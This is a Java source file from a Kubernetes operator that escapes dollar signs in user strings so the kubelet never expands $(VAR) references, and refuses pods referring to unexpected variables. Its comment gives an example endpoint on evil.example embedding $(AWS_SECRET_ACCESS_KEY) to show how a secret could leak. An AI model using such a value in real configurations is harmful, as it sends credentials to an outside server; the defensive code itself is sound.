package org.loomio.operator.render.pod;

import io.fabric8.kubernetes.api.model.Container;
import io.fabric8.kubernetes.api.model.EnvVar;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.regex.Pattern;

/**
 * The kubelet's {@code $(VAR)} expansion, which applies to a container's {@code command}, {@code args} and to
 * the {@code value} of each {@code env} entry (there it sees the variables defined before it, Secret-valued ones
 * included). A user's string placed there unescaped could make the kubelet paste a Secret into it: a backup
 * endpoint {@code https://evil.example/$(AWS_SECRET_ACCESS_KEY)} would hand the bucket's secret key to that
 * server. So every string the operator writes into those three places goes through {@link #literal} (or
 * {@link #env}, {@link #literals}): each {@code $} becomes {@code $$}, which the kubelet turns back into one
 * {@code $}, so the process receives exactly what the user wrote and no reference is ever resolved.
 *
 * <p>The operator's own deliberate references are listed in {@link #DELIBERATE}; {@link HardenedPod} refuses to
 * build a pod whose containers refer to any other variable, so a string that skipped {@link #literal} fails the
 * render instead of leaking.
 */
public final class Expansion {

  /**
   * The references the operator writes on purpose: the embedded Redis password, in {@code REDIS_CACHE_URL} and
   * in the server's {@code --requirepass} flag (so the password is in no stored object but its Secret).
   */
  public static final Set<String> DELIBERATE = Set.of("REDIS_PASSWORD");

  /** A name the kubelet could resolve in this operator's pods (every env and secretEnv name has this form). */
  private static final Pattern VARIABLE = Pattern.compile("[A-Za-z_][A-Za-z0-9_]*");

  private Expansion() {}

  /** The string as the kubelet must leave it: every {@code $} doubled. */
  public static String literal(String value) {
    return value == null ? null : value.replace("$", "$$");
  }

  /** {@link #literal} of each element. */
  public static List<String> literals(List<String> values) {
    List<String> out = new ArrayList<>(values.size());
    values.forEach(v -> out.add(literal(v)));
    return out;
  }

  /** A plain variable whose value reaches the process exactly as given. */
  public static EnvVar env(String name, String value) {
    return new EnvVar(name, literal(value), null);
  }

  /**
   * The variables a string refers to, as the kubelet reads it: {@code $$} is an escaped {@code $}, and
   * {@code $(NAME)} a reference when NAME could be a variable (a shell's {@code $(command)} or {@code $((...))}
   * in an operator's script cannot).
   */
  public static List<String> references(String value) {
    List<String> names = new ArrayList<>();
    if (value == null) {
      return names;
    }
    for (int i = 0; i < value.length() - 1; i++) {
      if (value.charAt(i) != '$') {
        continue;
      }
      char next = value.charAt(i + 1);
      if (next == '(') {
        int close = value.indexOf(')', i + 2);
        if (close < 0) {
          break;
        }
        String name = value.substring(i + 2, close);
        if (VARIABLE.matcher(name).matches()) {
          names.add(name);
        }
        i = close;
      } else {
        i++; // "$$" is one escaped '$'; "$x" is literal
      }
    }
    return names;
  }

  /** Fails when a container refers to a variable the operator does not expand on purpose. */
  static void check(Container c) {
    List<String> texts = new ArrayList<>();
    if (c.getCommand() != null) {
      texts.addAll(c.getCommand());
    }
    if (c.getArgs() != null) {
      texts.addAll(c.getArgs());
    }
    if (c.getEnv() != null) {
      c.getEnv().forEach(e -> texts.add(e.getValue()));
    }
    for (String text : texts) {
      for (String name : references(text)) {
        if (!DELIBERATE.contains(name)) {
          throw new IllegalStateException(
              "container " + c.getName() + " would have the kubelet expand $(" + name
                  + "): a user's string reached its command, args or env without Expansion.literal");
        }
      }
    }
  }
}
